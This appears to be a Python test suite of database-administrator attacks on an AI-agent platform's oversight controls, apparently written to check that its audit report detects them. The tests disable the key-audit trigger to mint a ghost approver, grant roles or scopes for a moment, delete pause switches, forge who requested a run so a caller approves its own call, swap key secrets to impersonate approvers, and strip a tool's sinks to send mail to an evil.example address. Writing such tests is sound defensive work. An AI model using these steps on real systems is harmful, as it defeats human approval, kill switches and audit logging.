"""Attacks by who may write to the database: being another person, or taking a pause away, for a moment."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from uuid import UUID

import httpx2
from tests.attacks.attack import Position, attack, require
from tests.attacks.corpus.audit import PROJECT_MOVED, located, switch_taken_away, watched
from tests.attacks.target import Target, pending_gates

from towpath_contracts.tools.calls import ToolSpec
from towpath_gateway.core.api_keys import SCOPES
from towpath_tas.core.tools.registry import spec_digest

IN_FORCE = "WHERE project = 'default' AND name = 'desk.label' AND status = 'accepted'"

CHANGED = "a call was changed in the ledger"
"""What the service's log says where it refuses a row that says something else than was decided."""


@attack(Position.DATABASE_ADMIN)
async def approve_with_a_key_that_was_made_beside_the_log(target: Target) -> str:
    """Make an approver's key while the trigger that records keys is off, approve with it, and delete it."""
    async with target.client("aud-8") as client, target.database() as database, watched(target) as report:
        run = await target.run(client, [("desk.refund", {"order": "81", "amount": 9999})], "Refund order 81.")
        await database.execute("ALTER TABLE gateway.api_key DISABLE TRIGGER audit_key")
        try:
            key = await target.key("aud-ghost", roles=["approver"])
        finally:
            await database.execute("ALTER TABLE gateway.api_key ENABLE TRIGGER audit_key")
        (gate,) = (await client.get(f"/v1/gates?run_id={run['run_id']}&status=pending")).json()["gates"]
        async with httpx2.AsyncClient(
            base_url=target.url, verify=False, headers={"Authorization": f"Bearer {key}"}, timeout=60
        ) as ghost:
            vote = {"verdict": "approved", "reason": "fine"}
            (await ghost.post(f"/v1/gates/{gate['gate_id']}/resolve", json=vote)).raise_for_status()
        run = await target.settled(client, run["run_id"])
        await database.execute("DELETE FROM gateway.api_key WHERE caller = 'aud-ghost'")
        await database.execute("DELETE FROM gateway.principal WHERE caller = 'aud-ghost'")
        require(run["status"] == "completed", f"the run is {run['status']}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def apply_a_policy_with_a_scope_for_a_moment(target: Target) -> str:
    """Give a key that may only submit the scope for policies, loosen a rule with it, use that, and undo both."""
    give = "UPDATE gateway.api_key SET scopes = $1 WHERE caller = 'aud-25'"
    loose = {"name": "refunds", "tool": "desk.refund", "effect": "allow"}
    async with (
        target.client("aud-25", scopes=["runs:read", "runs:write", "gates:read"]) as client,
        target.database() as database,
        watched(target) as report,
    ):
        done = len(target.effects())
        await database.execute(give, [*SCOPES])
        try:
            for _ in range(600):  # until the gateway reads the key anew
                answer = await client.put("/v1/policy/rules/refunds", json={"rule": loose})
                if answer.is_success:
                    break
                await asyncio.sleep(0.1)
            await target.run(client, [("desk.refund", {"order": "93", "amount": 9999})], "Refund order 93.")
            tight = {**loose, "effect": "require_approval"}
            await client.put("/v1/policy/rules/refunds", json={"rule": tight})
        finally:
            await database.execute(give, ["runs:read", "runs:write", "gates:read"])
        require(target.effects()[done:], f"nothing was refunded: {answer.text}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def take_a_pause_away_for_a_moment(target: Target) -> str:
    """Delete an open stop switch, have the call made that it holds, and put the switch back."""
    async with (
        target.client("aud-op", roles=["operator"]) as operator,
        target.client("aud-9") as client,
        target.database() as database,
        watched(target) as report,
    ):
        switch = {"kind": "tool", "name": "desk.label", "reason": "it leaks"}
        (await operator.post("/v1/switches/pause", json=switch)).raise_for_status()
        (row,) = await database.fetch("DELETE FROM tas.switch WHERE name = 'desk.label' RETURNING *")
        await database.execute(PROJECT_MOVED)
        try:
            run = await target.run(client, [("desk.label", {"ids": ["82"]})], "Label order 82.")
        finally:
            await database.execute("INSERT INTO tas.switch VALUES ($1, $2, $3, $4, $5, $6, $7)", *row.values())
            await database.execute(PROJECT_MOVED)
            (await operator.post("/v1/switches/resume", json=switch)).raise_for_status()
        require(run["status"] == "completed", f"the run is {run['status']}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def take_a_pause_away_while_an_approved_call_starts(target: Target) -> str:
    """Delete an open stop switch until a call that waited for people has started, which needs no decision any more."""
    async with (
        target.client("aud-op3", roles=["operator"]) as operator,
        target.client("aud-mia3", roles=["approver"]) as approver,
        target.client("aud-30") as client,
        target.database() as database,
        watched(target) as report,
    ):
        run = await target.run(client, [("desk.refund", {"order": "101", "amount": 9})], "Refund order 101.")
        (gate,) = await pending_gates(client, run["run_id"])
        switch = {"kind": "tool", "name": "desk.refund", "reason": "it pays twice"}
        (await operator.post("/v1/switches/pause", json=switch)).raise_for_status()
        try:
            async with switch_taken_away(database, "desk.refund"):
                vote = {"verdict": "approved", "reason": "once the pause is over"}
                (await approver.post(f"/v1/gates/{gate['gate_id']}/resolve", json=vote)).raise_for_status()
                run = await target.settled(client, run["run_id"])
        finally:
            (await operator.post("/v1/switches/resume", json=switch)).raise_for_status()
        require(run["status"] == "completed", f"the run is {run['status']}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def make_keys_with_a_scope_for_a_moment(target: Target) -> str:
    """Give a key that may only read the scopes and the role to make an approver's key, make one, and undo both."""
    give = "UPDATE gateway.api_key SET scopes = $1, roles = $2 WHERE caller = 'aud-32'"
    new = {"caller": "aud-33", "scopes": ["gates:resolve"], "roles": ["approver"]}
    async with (
        target.client("aud-32", scopes=["runs:read"]) as client,
        target.database() as database,
        watched(target) as report,
    ):
        await database.execute(give, [*SCOPES], ["approver"])
        try:
            for _ in range(600):  # until the gateway reads the key anew
                answer = await client.post("/v1/keys", json=new)
                if answer.is_success:
                    break
                await asyncio.sleep(0.1)
        finally:
            await database.execute(give, ["runs:read"], [])
        require(answer.is_success, f"no key is made: {answer.text}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def approve_the_own_call_under_another_name(target: Target) -> str:
    """Let an approval say that somebody else's run asks, approve the own call, and put the name back."""
    named = "UPDATE tas.approval SET requested_by = $1 WHERE run_id = $2"
    async with (
        target.client("aud-14", roles=["approver"]) as client,
        target.database() as database,
        watched(target) as report,
    ):
        run = await target.run(client, [("desk.refund", {"order": "87", "amount": 9999})], "Refund order 87.")
        (gate,) = await pending_gates(client, run["run_id"])
        await database.execute(named, "zed", UUID(run["run_id"]))
        vote = {"verdict": "approved", "reason": "fine"}
        answer = await client.post(f"/v1/gates/{gate['gate_id']}/resolve", json=vote)
        await database.execute(named, "aud-14", UUID(run["run_id"]))
        if not answer.is_success:
            log = " ".join(file.read_text("utf-8") for file in target.platform.logs.glob("tas*.log"))
            told = [line for line in log.splitlines() if CHANGED in line and gate["execution_id"] in line]
            require(told, f"the vote is refused: {answer.text}")
            return CHANGED
        await target.settled(client, run["run_id"])
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def approve_the_own_call_of_a_run_that_seems_anothers(target: Target) -> str:
    """Let the own run seem to be submitted by somebody else while its log is read anew, and approve its next call."""
    put = "UPDATE runs.run_event SET event = replace(event::text, $2, $3)::json WHERE run_id = $1 AND seq = 1"
    orchestrator = next(name for name in target.platform.processes if "orchestrator" in name)
    calls = [("desk.refund", {"order": order, "amount": 9999}) for order in ("94", "95")]
    async with (
        target.client("aud-26", roles=["approver"]) as client,
        target.client("aud-27", roles=["approver"]) as approver,
        target.database() as database,
        watched(target) as report,
    ):
        run = await target.run(client, calls, "Refund orders 94 and 95.")
        (first,) = await pending_gates(client, run["run_id"])
        await target.platform.hold(orchestrator)
        await database.execute("DELETE FROM runs.run_snapshot WHERE run_id = $1", UUID(run["run_id"]))
        await database.execute(put, UUID(run["run_id"]), "aud-26", "aud-zed")
        target.platform.release(orchestrator)
        await target.platform.wait_ready()
        await _approve_soon(approver, first["gate_id"])
        await _approve_next(client, run["run_id"], first)
        await target.settled(client, run["run_id"])
        await database.execute(put, UUID(run["run_id"]), "aud-zed", "aud-26")
        return located(await report())


async def _approve_next(client: httpx2.AsyncClient, run_id: str, before: dict[str, Any]) -> None:
    """Approve the gate that opens after the one *before*; raises ValueError where that is refused."""
    for _ in range(600):
        for gate in await pending_gates(client, run_id):
            if gate["gate_id"] != before["gate_id"]:
                vote = {"verdict": "approved", "reason": "fine"}
                answer = await client.post(f"/v1/gates/{gate['gate_id']}/resolve", json=vote)
                require(answer.is_success, f"the vote is refused: {answer.text}")
                return
        await asyncio.sleep(0.1)
    raise ValueError("nothing more is asked")


@attack(Position.DATABASE_ADMIN)
async def approve_with_a_role_for_a_moment(target: Target) -> str:
    """Give the key of somebody who may not approve the role for it, approve, and take the role away again."""
    give = "UPDATE gateway.api_key SET roles = $1 WHERE caller = 'aud-15'"
    async with (
        target.client("aud-16") as client,
        target.client("aud-15") as nobody,
        target.database() as database,
        watched(target) as report,
    ):
        gate = await _asked(target, client, "88")
        await database.execute(give, ["approver"])
        try:
            await _approve_soon(nobody, gate)
        finally:
            await database.execute(give, [])
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def open_a_gate_with_a_role_for_a_moment(target: Target) -> str:
    """Give a key that speaks at no gate the role of an operator, open the gate of a run, and take the role away."""
    give = "UPDATE gateway.api_key SET roles = $1 WHERE caller = 'aud-57'"
    async with (
        target.client("aud-56") as client,
        target.client("aud-57", scopes=["runs:read", "gates:read", "gates:resolve"]) as nobody,
        target.database() as database,
        watched(target) as report,
    ):
        run = await target.run(client, [("desk.refund", {"order": "113", "amount": 9999})], "Refund order 113.")
        put = (await client.post(f"/v1/runs/{run['run_id']}/gate", json={"reason": "look"})).raise_for_status().json()
        await database.execute(give, ["operator"])
        try:
            await _approve_soon(nobody, put["gate_id"])
        finally:
            await database.execute(give, [])
        (await client.post(f"/v1/runs/{run['run_id']}/cancel")).raise_for_status()
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def approve_with_the_key_of_another_person(target: Target) -> str:
    """Put the own secret into the key of an approver, approve with it, and put theirs back."""
    async with (
        target.client("aud-20") as client,
        target.client("aud-21", roles=["approver"]),
        watched(target) as report,
    ):
        gate = await _asked(target, client, "90")
        async with _with_key_of(target, client, "aud-20", "aud-21") as ghost:
            await _approve_soon(ghost, gate)
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def open_a_gate_with_the_key_of_another_person(target: Target) -> str:
    """Put the own secret into the key of an operator, open a gate of a run with it, and put theirs back."""
    async with (
        target.client("aud-54") as client,
        target.client("aud-55", roles=["operator"]),
        watched(target) as report,
    ):
        run = await target.run(client, [("desk.refund", {"order": "112", "amount": 9999})], "Refund order 112.")
        put = (await client.post(f"/v1/runs/{run['run_id']}/gate", json={"reason": "look"})).raise_for_status().json()
        async with _with_key_of(target, client, "aud-54", "aud-55") as ghost:
            await _approve_soon(ghost, put["gate_id"])
        (await client.post(f"/v1/runs/{run['run_id']}/cancel")).raise_for_status()
        return located(await report())


@asynccontextmanager
async def _with_key_of(
    target: Target, client: httpx2.AsyncClient, own_caller: str, their_caller: str
) -> AsyncIterator[httpx2.AsyncClient]:
    """Give a client that passes for the other caller with the secret of *client*, until theirs is put back."""
    put = "UPDATE gateway.api_key SET secret_digest = $1 WHERE caller = $2"
    read = "SELECT prefix, secret_digest FROM gateway.api_key WHERE caller = $1"
    async with target.database() as database:
        own, theirs = await database.fetchrow(read, own_caller), await database.fetchrow(read, their_caller)
        forged = client.headers["Authorization"].replace(own["prefix"], theirs["prefix"])
        await database.execute(put, own["secret_digest"], their_caller)
        try:
            async with httpx2.AsyncClient(
                base_url=target.url, verify=False, headers={"Authorization": forged}, timeout=60
            ) as ghost:
                yield ghost
        finally:
            await database.execute(put, theirs["secret_digest"], their_caller)


async def _asked(target: Target, client: httpx2.AsyncClient, order: str) -> str:
    run = await target.run(client, [("desk.refund", {"order": order, "amount": 9999})], f"Refund order {order}.")
    (gate,) = await pending_gates(client, run["run_id"])
    return str(gate["gate_id"])


async def _approve_soon(client: httpx2.AsyncClient, gate: str) -> None:
    """Approve, once the gateway reads the key anew; raises ValueError where that is refused."""
    vote = {"verdict": "approved", "reason": "fine"}
    for _ in range(600):
        answer = await client.post(f"/v1/gates/{gate}/resolve", json=vote)
        if answer.is_success:
            return
        await asyncio.sleep(0.1)
    raise ValueError(f"the vote is refused: {answer.text}")


@attack(Position.DATABASE_ADMIN)
async def take_a_withdrawn_tool_in_for_a_moment(target: Target) -> str:
    """Withdraw a tool, let its row say that it is not, have a call made, and put that back."""
    put = f"UPDATE tas.tool SET withdrawn = $1 {IN_FORCE}"
    async with (
        target.client("aud-18", roles=["policy_admin"]) as admin,
        target.client("aud-19") as client,
        target.database() as database,
        watched(target) as report,
    ):
        done = len(target.effects())
        version = await database.fetchval(f"SELECT max(version) FROM tas.tool {IN_FORCE}")
        said = {"version": version, "accept": False, "withdraw": True, "reason": "it leaks"}
        (await admin.post("/v1/tools/desk.label/proposal", json=said)).raise_for_status()
        try:
            await database.execute(put, False)
            await database.execute(PROJECT_MOVED)
            run = await target.run(client, [("desk.label", {"ids": ["89"]})], "Label order 89.")
            await database.execute(put, True)
            await database.execute(PROJECT_MOVED)
        finally:
            said = {"version": version, "accept": True, "reason": "no more"}
            (await admin.post("/v1/tools/desk.label/proposal", json=said)).raise_for_status()
        require(target.effects()[done:], f"nothing was labelled, and the run is {run['status']}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def rewrite_a_definition_for_a_moment(target: Target) -> str:
    """Let a tool seem to have no sinks, so that no rule asks where its values come from, send, and put that back."""
    of_tool = "WHERE project = 'default' AND name = 'desk.send' AND status = 'accepted'"
    put = f"UPDATE tas.tool SET spec = $1::json, digest = $2 {of_tool} AND version = $3"
    async with target.client("aud-24") as client, target.database() as database, watched(target) as report:
        done = len(target.effects())
        row = await database.fetchrow(
            f"SELECT spec::text AS spec, digest, version FROM tas.tool {of_tool} ORDER BY 3 DESC"
        )
        other = ToolSpec.model_validate_json(row["spec"]).model_copy(update={"sinks": ()})
        await database.execute(put, other.model_dump_json(), spec_digest(other), row["version"])
        await database.execute(PROJECT_MOVED)
        try:
            asked = ("desk.send", {"to": "aud-eve@evil.example", "text": "92"})
            run = await target.run(client, [("desk.mail", {}), asked], "Read the mail.")
        finally:
            await database.execute(put, row["spec"], row["digest"], row["version"])
            await database.execute(PROJECT_MOVED)
        require(target.effects()[done:], f"nothing was sent, and the run is {run['status']}")
        return located(await report())


@attack(Position.DATABASE_ADMIN)
async def rewrite_a_definition_under_a_version_that_entries_leave_out(target: Target) -> str:
    """The same in a row of version 0, which no entry of the audit names."""
    put = """UPDATE tas.tool SET spec = $1::json, digest = $2, version = $4
             WHERE project = 'default' AND name = 'desk.send' AND version = $3"""
    async with target.client("aud-34") as client, target.database() as database, watched(target) as report:
        done = len(target.effects())
        row = await database.fetchrow("""SELECT spec::text AS spec, digest, version FROM tas.tool
          WHERE project = 'default' AND name = 'desk.send' AND status = 'accepted' ORDER BY version DESC""")
        other = ToolSpec.model_validate_json(row["spec"]).model_copy(update={"sinks": ()})
        await database.execute(put, other.model_dump_json(), spec_digest(other), row["version"], 0)
        await database.execute(PROJECT_MOVED)
        try:
            asked = ("desk.send", {"to": "aud-eve@evil.example", "text": "103"})
            run = await target.run(client, [("desk.mail", {}), asked], "Read the mail.")
        finally:
            await database.execute(put, row["spec"], row["digest"], 0, row["version"])
            await database.execute(PROJECT_MOVED)
        require(target.effects()[done:], f"nothing was sent, and the run is {run['status']}")
        return located(await report())
